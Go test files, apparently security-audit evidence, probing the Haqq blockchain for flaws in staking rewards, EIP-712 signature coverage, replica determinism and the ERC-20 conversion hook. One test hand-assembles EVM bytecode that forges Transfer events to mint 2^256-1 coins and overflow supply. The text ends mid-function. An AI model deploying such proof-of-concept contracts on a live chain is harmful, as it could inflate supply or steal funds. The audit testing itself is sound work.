	pool, err := s.DeployContract(evmtypes.CompiledContract{ABI: abi.ABI{}, Bin: zzInitCode(zzStakePoolRuntime)})
	s.Require().NoError(err)
	s.zzNextBlock()
	s.Require().Equal(crypto.Keccak256(zzStakePoolRuntime), s.app.EvmKeeper.GetAccountWithoutBalance(s.ctx, pool).CodeHash, "pool contract deployed")

	// the tx signer approves the pool for MsgUndelegate (no limit)
	s.Require().NoError(s.CreateAuthorization(pool, stakingtypes.AuthorizationType_AUTHORIZATION_TYPE_UNDELEGATE, nil))

	// the pool delegates 1e18 of its own coins to validator 0 and has outstanding rewards
	val := s.validators[0]
	amt := math.NewInt(1e18)
	s.Require().NoError(haqqtestutil.FundAccountWithBaseDenom(s.ctx, s.app.BankKeeper, pool.Bytes(), amt.Int64()))
	distrAcc := s.app.DistrKeeper.GetDistributionAccount(s.ctx)
	s.Require().NoError(haqqtestutil.FundModuleAccount(s.ctx, s.app.BankKeeper, distrAcc.GetName(), sdk.NewCoins(sdk.NewCoin(s.bondDenom, amt))))
	_, err = s.app.StakingKeeper.Delegate(s.ctx, pool.Bytes(), amt, stakingtypes.Unspecified, val, true)
	s.Require().NoError(err)
	sdkstaking.EndBlocker(s.ctx, s.app.StakingKeeper.Keeper)
	val, _ = s.app.StakingKeeper.GetValidator(s.ctx, val.GetOperator())
	s.app.DistrKeeper.AllocateTokensToValidator(s.ctx, val, sdk.NewDecCoins(sdk.NewDecCoin(s.bondDenom, amt.MulRaw(2))))
	s.zzNextBlock()

	// what the pool is entitled to right now (computed on a throw-away branch of the state)
	queryCtx, _ := s.ctx.CacheContext()
	expRewardsCoins, err := s.app.DistrKeeper.WithdrawDelegationRewards(queryCtx, pool.Bytes(), val.GetOperator())
	s.Require().NoError(err)
	expRewards := expRewardsCoins.AmountOf(s.bondDenom)
	s.Require().True(expRewards.IsPositive(), "the pool has pending rewards")

	supplyBefore := s.app.BankKeeper.GetSupply(s.ctx, s.bondDenom).Amount
	poolBefore := s.app.BankKeeper.GetBalance(s.ctx, pool.Bytes(), s.bondDenom).Amount

	// the approved signer pokes the pool: pool.sstore(0,1); staking.undelegate(pool, val, 5e17)   (value 0)
	_, ethRes, err := contracts.Call(s.ctx, s.app, contracts.CallArgs{
		ContractAddr: pool,
		ContractABI:  s.precompile.ABI,
		MethodName:   staking.UndelegateMethod,
		Args:         []interface{}{pool, val.OperatorAddress, big.NewInt(5e17)},
		PrivKey:      s.privKey,
		GasPrice:     big.NewInt(1e9),
	})
	s.Require().NoError(err)
	s.Require().Empty(ethRes.VmError, "the transaction succeeded")

	supplyAfter := s.app.BankKeeper.GetSupply(s.ctx, s.bondDenom).Amount
	poolAfter := s.app.BankKeeper.GetBalance(s.ctx, pool.Bytes(), s.bondDenom).Amount

	// the undelegation really happened (and with it the payout of the rewards by the distribution hook)
	ubd, found := s.app.StakingKeeper.GetUnbondingDelegation(s.ctx, pool.Bytes(), val.GetOperator())
	s.Require().True(found, "unbonding delegation of the pool exists")
	s.Require().Equal("500000000000000000", ubd.Entries[0].Balance.String())
	queryCtx, _ = s.ctx.CacheContext()
	left, err := s.app.DistrKeeper.WithdrawDelegationRewards(queryCtx, pool.Bytes(), val.GetOperator())
	s.Require().NoError(err)
	s.Require().True(left.AmountOf(s.bondDenom).IsZero(), "rewards were paid out, left: %s", left)

	s.T().Logf("rewards=%s pool: %s -> %s supply: %s -> %s", expRewards, poolBefore, poolAfter, supplyBefore, supplyAfter)

	// ... so the pool must hold the rewards, and no coin may have been destroyed
	s.Require().Equal(poolBefore.Add(expRewards).String(), poolAfter.String(),
		"pool balance after = before + rewards paid by the hook (%s)", expRewards)
	s.Require().Equal(supplyBefore.String(), supplyAfter.String(),
		"an Ethereum transaction must not change the total supply of %s", s.bondDenom)
}
