package eip712_test

import (
	"bytes"
	"testing"

	codectypes "github.com/cosmos/cosmos-sdk/codec/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	txtypes "github.com/cosmos/cosmos-sdk/types/tx"
	"github.com/cosmos/cosmos-sdk/types/tx/signing"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/cmd/config"
	"github.com/haqq-network/haqq/crypto/ethsecp256k1"
	"github.com/haqq-network/haqq/encoding"
	"github.com/haqq-network/haqq/ethereum/eip712"
)

type zzDoc struct {
	body *txtypes.TxBody
	auth *txtypes.AuthInfo
	doc  *txtypes.SignDoc
}

func (d zzDoc) bytes(t *testing.T) []byte {
	bb, err := d.body.Marshal()
	require.NoError(t, err)
	ab, err := d.auth.Marshal()
	require.NoError(t, err)
	d.doc.BodyBytes = bb
	d.doc.AuthInfoBytes = ab
	out, err := d.doc.Marshal()
	require.NoError(t, err)
	return out
}

func TestZZHuntDirectSignDocMutations(t *testing.T) {
	cfg := encoding.MakeConfig(app.ModuleBasics)
	sdk.GetConfig().SetBech32PrefixForAccount(config.Bech32Prefix, "")
	eip712.SetEncodingConfig(cfg)

	priv, err := ethsecp256k1.GenerateKey()
	require.NoError(t, err)
	priv2, _ := ethsecp256k1.GenerateKey()
	from := sdk.AccAddress(priv.PubKey().Address())
	to := sdk.AccAddress(priv2.PubKey().Address())
	pkAny, err := codectypes.NewAnyWithValue(priv.PubKey())
	require.NoError(t, err)

	mk := func() zzDoc {
		msg := banktypes.NewMsgSend(from, to, sdk.NewCoins(sdk.NewInt64Coin("aISLM", 5)))
		msg2 := banktypes.NewMsgSend(from, to, sdk.NewCoins(sdk.NewInt64Coin("aISLM", 7), sdk.NewInt64Coin("bbb", 1)))
		a1, _ := codectypes.NewAnyWithValue(msg)
		a2, _ := codectypes.NewAnyWithValue(msg2)
		return zzDoc{
			body: &txtypes.TxBody{Messages: []*codectypes.Any{a1, a2}, Memo: "m"},
			auth: &txtypes.AuthInfo{
				SignerInfos: []*txtypes.SignerInfo{{
					PublicKey: pkAny,
					ModeInfo:  &txtypes.ModeInfo{Sum: &txtypes.ModeInfo_Single_{Single: &txtypes.ModeInfo_Single{Mode: signing.SignMode_SIGN_MODE_DIRECT}}},
					Sequence:  3,
				}},
				Fee: &txtypes.Fee{Amount: sdk.NewCoins(sdk.NewInt64Coin("aISLM", 100)), GasLimit: 200000},
			},
			doc: &txtypes.SignDoc{ChainId: "haqq_11235-1", AccountNumber: 9},
		}
	}

	base := mk().bytes(t)
	baseNew, err := eip712.GetEIP712BytesForMsg(base)
	require.NoError(t, err)
	baseOld, errOld := eip712.LegacyGetEIP712BytesForMsg(base)
	t.Logf("legacy base err=%v", errOld)

	setMsg := func(d *zzDoc, i int, m sdk.Msg) {
		a, _ := codectypes.NewAnyWithValue(m)
		d.body.Messages[i] = a
	}

	muts := map[string]func(d *zzDoc){
		"chain epoch":     func(d *zzDoc) { d.doc.ChainId = "haqq_11235-2" },
		"chain name":      func(d *zzDoc) { d.doc.ChainId = "other_11235-1" },
		"chain eip155":    func(d *zzDoc) { d.doc.ChainId = "haqq_11236-1" },
		"chain mod 2^64":  func(d *zzDoc) { d.doc.ChainId = "haqq_18446744073709562851-1" },
		"account number":  func(d *zzDoc) { d.doc.AccountNumber = 10 },
		"sequence":        func(d *zzDoc) { d.auth.SignerInfos[0].Sequence = 4 },
		"fee amount":      func(d *zzDoc) { d.auth.Fee.Amount = sdk.NewCoins(sdk.NewInt64Coin("aISLM", 101)) },
		"fee denom":       func(d *zzDoc) { d.auth.Fee.Amount = sdk.NewCoins(sdk.NewInt64Coin("bISLM", 100)) },
		"fee extra coin":  func(d *zzDoc) { d.auth.Fee.Amount = d.auth.Fee.Amount.Add(sdk.NewInt64Coin("zzz", 1)) },
		"fee empty":       func(d *zzDoc) { d.auth.Fee.Amount = nil },
		"gas":             func(d *zzDoc) { d.auth.Fee.GasLimit = 200001 },
		"memo":            func(d *zzDoc) { d.body.Memo = "n" },
		"memo empty":      func(d *zzDoc) { d.body.Memo = "" },
		"timeout":         func(d *zzDoc) { d.body.TimeoutHeight = 5 },
		"tip":             func(d *zzDoc) { d.auth.Tip = &txtypes.Tip{Amount: sdk.NewCoins(sdk.NewInt64Coin("aISLM", 1)), Tipper: to.String()} },
		"msg0 to":         func(d *zzDoc) { setMsg(d, 0, banktypes.NewMsgSend(from, from, sdk.NewCoins(sdk.NewInt64Coin("aISLM", 5)))) },
		"msg0 amount":     func(d *zzDoc) { setMsg(d, 0, banktypes.NewMsgSend(from, to, sdk.NewCoins(sdk.NewInt64Coin("aISLM", 6)))) },
		"msg1 amount":     func(d *zzDoc) { setMsg(d, 1, banktypes.NewMsgSend(from, to, sdk.NewCoins(sdk.NewInt64Coin("aISLM", 7), sdk.NewInt64Coin("bbb", 2)))) },
		"msg1 drop coin":  func(d *zzDoc) { setMsg(d, 1, banktypes.NewMsgSend(from, to, sdk.NewCoins(sdk.NewInt64Coin("aISLM", 7)))) },
		"msg1 empty coin": func(d *zzDoc) { setMsg(d, 1, &banktypes.MsgSend{FromAddress: from.String(), ToAddress: to.String()}) },
		"msg swap":        func(d *zzDoc) { d.body.Messages[0], d.body.Messages[1] = d.body.Messages[1], d.body.Messages[0] },
		"msg drop":        func(d *zzDoc) { d.body.Messages = d.body.Messages[:1] },
		"msg dup":         func(d *zzDoc) { d.body.Messages = append(d.body.Messages, d.body.Messages[1]) },
		"msg0 to upper":   func(d *zzDoc) { setMsg(d, 0, &banktypes.MsgSend{FromAddress: from.String(), ToAddress: bytes.NewBufferString(to.String()).String() + "", Amount: sdk.NewCoins(sdk.NewInt64Coin("aISLM", 5))}) },
	}
	delete(muts, "msg0 to upper")

	for name, mut := range muts {
		d := mk()
		mut(&d)
		bz := d.bytes(t)
		require.NotEqual(t, base, bz, name)

		got, err := eip712.GetEIP712BytesForMsg(bz)
		if err == nil && bytes.Equal(got, baseNew) {
			t.Errorf("NEW encoding: mutation %q leaves the EIP-712 bytes unchanged: the signature still verifies", name)
		}
		gotOld, err2 := eip712.LegacyGetEIP712BytesForMsg(bz)
		if errOld == nil && err2 == nil && bytes.Equal(gotOld, baseOld) {
			t.Errorf("LEGACY encoding: mutation %q leaves the EIP-712 bytes unchanged: the signature still verifies", name)
		}
		t.Logf("%-16s new: err=%v   legacy: err=%v", name, err != nil, err2 != nil)
	}
}
