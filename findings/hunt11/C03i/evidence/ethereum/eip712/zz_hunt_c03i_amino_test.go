package eip712_test

import (
	"bytes"
	"testing"

	sdk "github.com/cosmos/cosmos-sdk/types"
	txtypes "github.com/cosmos/cosmos-sdk/types/tx"
	"github.com/cosmos/cosmos-sdk/x/auth/migrations/legacytx"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/cmd/config"
	"github.com/haqq-network/haqq/crypto/ethsecp256k1"
	"github.com/haqq-network/haqq/encoding"
	"github.com/haqq-network/haqq/ethereum/eip712"
)

func TestZZHuntAminoSignDocMutations(t *testing.T) {
	cfg := encoding.MakeConfig(app.ModuleBasics)
	sdk.GetConfig().SetBech32PrefixForAccount(config.Bech32Prefix, "")
	eip712.SetEncodingConfig(cfg)
	priv, _ := ethsecp256k1.GenerateKey()
	priv2, _ := ethsecp256k1.GenerateKey()
	from := sdk.AccAddress(priv.PubKey().Address())
	to := sdk.AccAddress(priv2.PubKey().Address())
	msgs := []sdk.Msg{banktypes.NewMsgSend(from, to, sdk.NewCoins(sdk.NewInt64Coin("aISLM", 5)))}
	fee := legacytx.StdFee{Amount: sdk.NewCoins(sdk.NewInt64Coin("aISLM", 100)), Gas: 200000}
	base := legacytx.StdSignBytes("haqq_11235-1", 9, 3, 0, fee, msgs, "m", nil)
	bNew, err := eip712.GetEIP712BytesForMsg(base)
	require.NoError(t, err)
	bOld, err := eip712.LegacyGetEIP712BytesForMsg(base)
	require.NoError(t, err)

	cases := map[string][]byte{
		"granter": legacytx.StdSignBytes("haqq_11235-1", 9, 3, 0, legacytx.StdFee{Amount: fee.Amount, Gas: fee.Gas, Granter: to.String()}, msgs, "m", nil),
		"payer":   legacytx.StdSignBytes("haqq_11235-1", 9, 3, 0, legacytx.StdFee{Amount: fee.Amount, Gas: fee.Gas, Payer: from.String()}, msgs, "m", nil),
		"timeout": legacytx.StdSignBytes("haqq_11235-1", 9, 3, 7, fee, msgs, "m", nil),
		"tip":     legacytx.StdSignBytes("haqq_11235-1", 9, 3, 0, fee, msgs, "m", &txtypes.Tip{Amount: fee.Amount, Tipper: to.String()}),
	}
	for name, bz := range cases {
		g, e1 := eip712.GetEIP712BytesForMsg(bz)
		o, e2 := eip712.LegacyGetEIP712BytesForMsg(bz)
		t.Logf("%-8s new err=%v | legacy err=%v", name, e1 != nil, e2 != nil)
		if e1 == nil && bytes.Equal(g, bNew) {
			t.Errorf("NEW: %s not covered", name)
		}
		if e2 == nil && bytes.Equal(o, bOld) {
			t.Errorf("LEGACY: %s not covered", name)
		}
	}
}
