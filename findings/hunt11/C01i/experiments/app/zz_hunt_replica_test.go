package app

import (
	"encoding/json"
	"testing"
	"time"

	dbm "github.com/cometbft/cometbft-db"
	abci "github.com/cometbft/cometbft/abci/types"
	"github.com/cometbft/cometbft/libs/log"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	tmtypes "github.com/cometbft/cometbft/types"
	"github.com/cosmos/cosmos-sdk/baseapp"
	"github.com/cosmos/cosmos-sdk/crypto/keys/secp256k1"
	"github.com/cosmos/cosmos-sdk/testutil/mock"
	simtestutil "github.com/cosmos/cosmos-sdk/testutil/sims"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/encoding"
	"github.com/haqq-network/haqq/utils"
)

func zzNew(db dbm.DB, chainID string) *Haqq {
	return NewHaqq(log.NewNopLogger(), db, nil, true, map[int64]bool{}, DefaultNodeHome, 5,
		encoding.MakeConfig(ModuleBasics), simtestutil.NewAppOptionsWithFlagHome(DefaultNodeHome), baseapp.SetChainID(chainID))
}

func TestZZReplicasAgree(t *testing.T) {
	chainID := utils.MainNetChainID + "-1"
	privVal := mock.NewPV()
	pubKey, _ := privVal.GetPubKey()
	validator := tmtypes.NewValidator(pubKey, 1)
	valSet := tmtypes.NewValidatorSet([]*tmtypes.Validator{validator})
	priv := secp256k1.GenPrivKey()
	acc := authtypes.NewBaseAccount(priv.PubKey().Address().Bytes(), priv.PubKey(), 0, 0)
	bal := banktypes.Balance{Address: acc.GetAddress().String(), Coins: sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, sdk.TokensFromConsensusPower(1000, sdk.DefaultPowerReduction)))}

	dbA, dbB := dbm.NewMemDB(), dbm.NewMemDB()
	a, b := zzNew(dbA, chainID), zzNew(dbB, chainID)
	gs := GenesisStateWithValSet(a, NewDefaultGenesisState(), valSet, []authtypes.GenesisAccount{acc}, bal)
	stateBytes, err := json.MarshalIndent(gs, "", " ")
	require.NoError(t, err)
	t0 := time.Date(2024, 12, 31, 23, 59, 30, 0, time.UTC)
	ic := abci.RequestInitChain{ChainId: chainID, Time: t0, ConsensusParams: DefaultConsensusParams, AppStateBytes: stateBytes}
	ra, rb := a.InitChain(ic), b.InitChain(ic)
	require.Equal(t, ra.AppHash, rb.AppHash)

	junk := []byte{0xde, 0xad}
	for h := int64(1); h <= 12; h++ {
		hdr := tmproto.Header{ChainID: chainID, Height: h, Time: t0.Add(time.Duration(h) * 6 * time.Second), ProposerAddress: validator.Address, ValidatorsHash: valSet.Hash()}
		req := abci.RequestBeginBlock{Header: hdr, Hash: []byte{byte(h), 1, 2, 3}, LastCommitInfo: abci.CommitInfo{}}
		a.BeginBlock(req)
		b.BeginBlock(req)
		da, dbr := a.DeliverTx(abci.RequestDeliverTx{Tx: junk}), b.DeliverTx(abci.RequestDeliverTx{Tx: junk})
		require.Equal(t, da.GasUsed, dbr.GasUsed, "height %d junk tx gas", h)
		require.Equal(t, da.Code, dbr.Code)
		ea, eb := a.EndBlock(abci.RequestEndBlock{Height: h}), b.EndBlock(abci.RequestEndBlock{Height: h})
		require.Equal(t, ea.ValidatorUpdates, eb.ValidatorUpdates)
		ca, cb := a.Commit(), b.Commit()
		require.Equal(t, ca.Data, cb.Data, "app hash differs at height %d", h)
		// replica B is re-created from its database after every block
		b = zzNew(dbB, chainID)
		require.Equal(t, h, b.LastBlockHeight())
	}
}
