package app_test

import (
	"encoding/hex"
	"encoding/json"
	"math/big"
	"testing"
	"time"

	dbm "github.com/cometbft/cometbft-db"
	abci "github.com/cometbft/cometbft/abci/types"
	"github.com/cometbft/cometbft/libs/log"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	tmtypes "github.com/cometbft/cometbft/types"
	"github.com/cosmos/cosmos-sdk/baseapp"
	"github.com/cosmos/cosmos-sdk/testutil/mock"
	simtestutil "github.com/cosmos/cosmos-sdk/testutil/sims"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/encoding"
	stakingprecompile "github.com/haqq-network/haqq/precompiles/staking"
	testutiltx "github.com/haqq-network/haqq/testutil/tx"
	haqqtypes "github.com/haqq-network/haqq/types"
	"github.com/haqq-network/haqq/utils"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

func zzNew2(db dbm.DB, chainID string) *app.Haqq {
	return app.NewHaqq(log.NewNopLogger(), db, nil, true, map[int64]bool{}, app.DefaultNodeHome, 5,
		encoding.MakeConfig(app.ModuleBasics), simtestutil.NewAppOptionsWithFlagHome(app.DefaultNodeHome), baseapp.SetChainID(chainID))
}

func zzNewTr(db dbm.DB, chainID, tracer string) *app.Haqq {
	return app.NewHaqq(log.NewNopLogger(), db, nil, true, map[int64]bool{}, app.DefaultNodeHome, 0,
		encoding.MakeConfig(app.ModuleBasics), simtestutil.AppOptionsMap{"home": app.DefaultNodeHome, "evm.tracer": tracer, "evm.max-tx-gas-wanted": uint64(21000), "minimum-gas-prices": "5aISLM"}, baseapp.SetChainID(chainID), baseapp.SetMinGasPrices("5aISLM"))
}

func TestZZReplicasAgreeEVM(t *testing.T) {
	chainID := utils.MainNetChainID + "-1"
	privVal := mock.NewPV()
	pubKey, _ := privVal.GetPubKey()
	validator := tmtypes.NewValidator(pubKey, 1)
	valSet := tmtypes.NewValidatorSet([]*tmtypes.Validator{validator})
	addr, priv := testutiltx.NewAddrKey()
	baseAcc := authtypes.NewBaseAccount(priv.PubKey().Address().Bytes(), priv.PubKey(), 0, 0)
	acc := &haqqtypes.EthAccount{BaseAccount: baseAcc, CodeHash: common.BytesToHash(evmtypes.EmptyCodeHash).Hex()}
	bal := banktypes.Balance{Address: acc.GetAddress().String(), Coins: sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, sdk.TokensFromConsensusPower(100000, sdk.DefaultPowerReduction)))}

	dbA, dbB, dbC := dbm.NewMemDB(), dbm.NewMemDB(), dbm.NewMemDB()
	a, b, c := zzNew2(dbA, chainID), zzNew2(dbB, chainID), zzNewTr(dbC, chainID, "access_list")
	gs := app.GenesisStateWithValSet(a, app.NewDefaultGenesisState(), valSet, []authtypes.GenesisAccount{acc}, bal)
	stateBytes, err := json.MarshalIndent(gs, "", " ")
	require.NoError(t, err)
	t0 := time.Date(2024, 12, 31, 23, 59, 30, 0, time.UTC)
	ic := abci.RequestInitChain{ChainId: chainID, Time: t0, ConsensusParams: app.DefaultConsensusParams, AppStateBytes: stateBytes}
	a.InitChain(ic)
	b.InitChain(ic)
	c.InitChain(ic)

	initCode, _ := hex.DecodeString("41600155426002554360035544600455456005554660065547600755486008553a60095532600a555a600b556001430340602055434060215500")
	stABI, err := stakingprecompile.LoadABI()
	require.NoError(t, err)
	valAddr := sdk.ValAddress(validator.Address).String()
	delegate, err := stABI.Pack("delegate", addr, valAddr, big.NewInt(1e18))
	require.NoError(t, err)
	stAddr := common.HexToAddress(stakingprecompile.PrecompileAddress)
	txCfg := encoding.MakeConfig(app.ModuleBasics).TxConfig
	evmChainID, err := haqqtypes.ParseChainID(chainID)
	require.NoError(t, err)
	_ = ethtypes.AccessList{}

	mk := func(nonce uint64, to *common.Address, data []byte, gas uint64) []byte {
		msg := evmtypes.NewTx(&evmtypes.EvmTxArgs{ChainID: evmChainID, Nonce: nonce, To: to, GasLimit: gas, GasFeeCap: big.NewInt(1e12), GasTipCap: big.NewInt(1), Input: data, Accesses: &ethtypes.AccessList{}})
		msg.From = addr.Hex()
		require.NoError(t, msg.Sign(ethtypes.LatestSignerForChainID(evmChainID), testutiltx.NewSigner(priv)))
		tx, err := testutiltx.PrepareEthTx(txCfg, a, nil, msg)
		require.NoError(t, err)
		bz, err := txCfg.TxEncoder()(tx)
		require.NoError(t, err)
		return bz
	}

	nonce := uint64(0)
	for h := int64(1); h <= 8; h++ {
		hdr := tmproto.Header{ChainID: chainID, Height: h, Time: t0.Add(time.Duration(h) * 6 * time.Second), ProposerAddress: validator.Address, ValidatorsHash: valSet.Hash()}
		req := abci.RequestBeginBlock{Header: hdr, Hash: []byte{byte(h), 1, 2, 3}}
		txs := [][]byte{mk(nonce, nil, initCode, 700000), {0xde, 0xad}, mk(nonce+1, &stAddr, delegate, 400000), mk(nonce+2, &stAddr, delegate[:40], 400000)}
		nonce += 3
		// replica C has the transactions in its mempool first
		for _, tx := range txs {
			c.CheckTx(abci.RequestCheckTx{Tx: tx})
		}
		a.BeginBlock(req)
		b.BeginBlock(req)
		c.BeginBlock(req)
		for i, tx := range txs {
			da, dbr, dc := a.DeliverTx(abci.RequestDeliverTx{Tx: tx}), b.DeliverTx(abci.RequestDeliverTx{Tx: tx}), c.DeliverTx(abci.RequestDeliverTx{Tx: tx})
			if i != 1 && i != 3 {
				require.Equal(t, uint32(0), da.Code, "height %d tx %d: %s", h, i, da.Log)
			}
			require.Equal(t, da.Code, dbr.Code, "height %d tx %d code", h, i)
			require.Equal(t, da.GasUsed, dbr.GasUsed, "height %d tx %d gas (restarted replica)", h, i)
			require.Equal(t, da.Data, dbr.Data, "height %d tx %d data (restarted replica)", h, i)
			require.Equal(t, da.Code, dc.Code)
			require.Equal(t, da.GasUsed, dc.GasUsed, "height %d tx %d gas (mempool replica)", h, i)
			require.Equal(t, da.Data, dc.Data, "height %d tx %d data (mempool replica)", h, i)
			if h == 1 {
				t.Logf("tx %d code %d gas %d log %.80s", i, da.Code, da.GasUsed, da.Log)
			}
		}
		ea, eb := a.EndBlock(abci.RequestEndBlock{Height: h}), b.EndBlock(abci.RequestEndBlock{Height: h})
		c.EndBlock(abci.RequestEndBlock{Height: h})
		require.Equal(t, ea.ValidatorUpdates, eb.ValidatorUpdates)
		ca, cb, cc := a.Commit(), b.Commit(), c.Commit()
		require.Equal(t, ca.Data, cb.Data, "app hash differs at height %d (restarted replica)", h)
		require.Equal(t, ca.Data, cc.Data, "app hash differs at height %d (mempool replica)", h)
		b = zzNew2(dbB, chainID)
	}
}
