package keeper_test

import (
	"bytes"
	"math/big"

	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	abci "github.com/cometbft/cometbft/abci/types"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/contracts"
	"github.com/haqq-network/haqq/encoding"
	"github.com/haqq-network/haqq/testutil"
	utiltx "github.com/haqq-network/haqq/testutil/tx"
	"github.com/haqq-network/haqq/utils"
	"github.com/haqq-network/haqq/x/erc20/types"
	evm "github.com/haqq-network/haqq/x/evm/types"
)

// zzTransferEmitter returns the init code of a contract that, whatever it is called with, emits
// `n` times the ERC-20 event Transfer(msg.sender, erc20ModuleAddress, 2^256-1) and stops.
func zzTransferEmitter(n int) []byte {
	sig := common.HexToHash("0xddf252ad1be2c89b69c2b068fc378daa952ba7f163c4a11628f55a4df523b3ef")

	var rt bytes.Buffer
	// mem[0:32] = 2^256-1
	rt.WriteByte(0x7f)
	rt.Write(bytes.Repeat([]byte{0xff}, 32))
	rt.Write([]byte{0x60, 0x00, 0x52})
	for i := 0; i < n; i++ {
		rt.WriteByte(0x73) // PUSH20 topic3 = to = erc20 module address
		rt.Write(types.ModuleAddress.Bytes())
		rt.WriteByte(0x33) // CALLER  topic2 = from
		rt.WriteByte(0x7f) // PUSH32 topic1 = Transfer signature
		rt.Write(sig.Bytes())
		rt.Write([]byte{0x60, 0x20, 0x60, 0x00, 0xa3}) // size 32, offset 0, LOG3
	}
	rt.WriteByte(0x00) // STOP

	runtime := rt.Bytes()
	l := len(runtime)
	// PUSH2 len DUP1 PUSH1 0x0c PUSH1 0 CODECOPY PUSH1 0 RETURN
	init := []byte{0x61, byte(l >> 8), byte(l), 0x80, 0x60, 0x0c, 0x60, 0x00, 0x39, 0x60, 0x00, 0xf3}
	return append(init, runtime...)
}

// zzDeliver sends one Ethereum transaction (a call to `to` with `data`) through BaseApp.DeliverTx and
// returns the raw response together with what the sender paid and what the fee collector kept.
func (suite *KeeperTestSuite) zzDeliver(to common.Address, data []byte, gasLimit uint64) (res abci.ResponseDeliverTx, price, paid, collected *big.Int) {
	denom := suite.app.EvmKeeper.GetParams(suite.ctx).EvmDenom
	collector := suite.app.AccountKeeper.GetModuleAddress(authtypes.FeeCollectorName)
	sender := sdk.AccAddress(suite.address.Bytes())

	price = suite.app.FeeMarketKeeper.GetBaseFee(suite.ctx)
	msg := evm.NewTx(&evm.EvmTxArgs{
		ChainID:   suite.app.EvmKeeper.ChainID(),
		Nonce:     suite.app.EvmKeeper.GetNonce(suite.ctx, suite.address),
		To:        &to,
		GasLimit:  gasLimit,
		GasFeeCap: price, // fee cap == base fee: the effective gas price is the base fee
		GasTipCap: big.NewInt(1),
		Input:     data,
		Accesses:  &ethtypes.AccessList{},
	})
	msg.From = suite.address.Hex()

	txConfig := encoding.MakeConfig(app.ModuleBasics).TxConfig
	tx, err := utiltx.PrepareEthTx(txConfig, suite.app, suite.priv, msg)
	suite.Require().NoError(err)
	bz, err := txConfig.TxEncoder()(tx)
	suite.Require().NoError(err)

	senderBefore := suite.app.BankKeeper.GetBalance(suite.ctx, sender, denom).Amount
	collectorBefore := suite.app.BankKeeper.GetBalance(suite.ctx, collector, denom).Amount

	res = suite.app.BaseApp.DeliverTx(abci.RequestDeliverTx{Tx: bz})

	senderAfter := suite.app.BankKeeper.GetBalance(suite.ctx, sender, denom).Amount
	collectorAfter := suite.app.BankKeeper.GetBalance(suite.ctx, collector, denom).Amount

	return res, price, senderBefore.Sub(senderAfter).BigInt(), collectorAfter.Sub(collectorBefore).BigInt()
}

// Property C07: for an Ethereum transaction that is accepted in a block, the sender's net payment is
// exactly gasUsed x effectiveGasPrice with gasUsed the figure of the DeliverTx response (never above
// the gas limit), the fee collector keeps exactly that amount and the rest of the up-front deduction
// goes back to the sender.
func (suite *KeeperTestSuite) TestZZHuntHookPanicKeepsWholeFee() {
	const gasLimit = uint64(300_000)
	suite.Require().Equal(utils.BaseDenom, suite.app.EvmKeeper.GetParams(suite.ctx).EvmDenom)

	register := func(n int) common.Address {
		suite.Commit()
		addr, err := testutil.DeployContract(
			suite.ctx, suite.app, suite.priv, suite.queryClientEvm,
			evm.CompiledContract{ABI: abi.ABI{}, Bin: zzTransferEmitter(n)},
		)
		suite.Require().NoError(err)
		suite.Commit()
		suite.Require().True(suite.app.EvmKeeper.GetAccountWithoutBalance(suite.ctx, addr).IsContract())

		// the state a passed RegisterERC20Proposal leaves behind for an externally owned token
		pair := types.NewTokenPair(addr, types.CreateDenom(addr.String()), types.OWNER_EXTERNAL)
		suite.app.Erc20Keeper.SetTokenPair(suite.ctx, pair)
		suite.app.Erc20Keeper.SetDenomMap(suite.ctx, pair.Denom, pair.GetID())
		suite.app.Erc20Keeper.SetERC20Map(suite.ctx, addr, pair.GetID())
		suite.Commit()
		return addr
	}

	check := func(name string, to common.Address) {
		res, price, paid, collected := suite.zzDeliver(to, nil, gasLimit)
		suite.T().Logf("%s: code=%d codespace=%q gas_wanted=%d gas_used=%d price=%s sender paid=%s collector kept=%s log=%.120s",
			name, res.Code, res.Codespace, res.GasWanted, res.GasUsed, price, paid, collected, res.Log)

		owed := new(big.Int).Mul(price, big.NewInt(res.GasUsed))
		suite.Require().LessOrEqual(res.GasUsed, int64(gasLimit), name)
		suite.Require().Equal(owed.String(), paid.String(),
			"%s: the sender must pay gas_used x price = %d x %s", name, res.GasUsed, price)
		suite.Require().Equal(owed.String(), collected.String(),
			"%s: the fee collector must keep gas_used x price = %d x %s", name, res.GasUsed, price)
	}

	// control: one Transfer event to the module address, the hook mints 2^256-1 coins
	one := register(1)
	check("one transfer event", one)

	// two Transfer events: the hook's second MintCoins overflows the denomination's supply
	two := register(2)
	check("two transfer events", two)
}

// The same with the token contract that ships with the repository (ERC20MinterBurnerDecimals), registered
// through the keeper's RegisterERC20 (what a RegisterERC20Proposal runs). Its issuer holds MINTER_ROLE and
// BURNER_ROLE: mint 2^255, convert them (transfer to the module address: 2^255 coins are minted), burn the
// escrowed tokens with burnCoins, mint 2^255 again and convert again: the coin supply would be 2^256.
func (suite *KeeperTestSuite) TestZZHuntHookPanicStandardToken() {
	const gasLimit = uint64(300_000)
	erc20 := contracts.ERC20MinterBurnerDecimalsContract.ABI
	half := new(big.Int).Lsh(big.NewInt(1), 255)

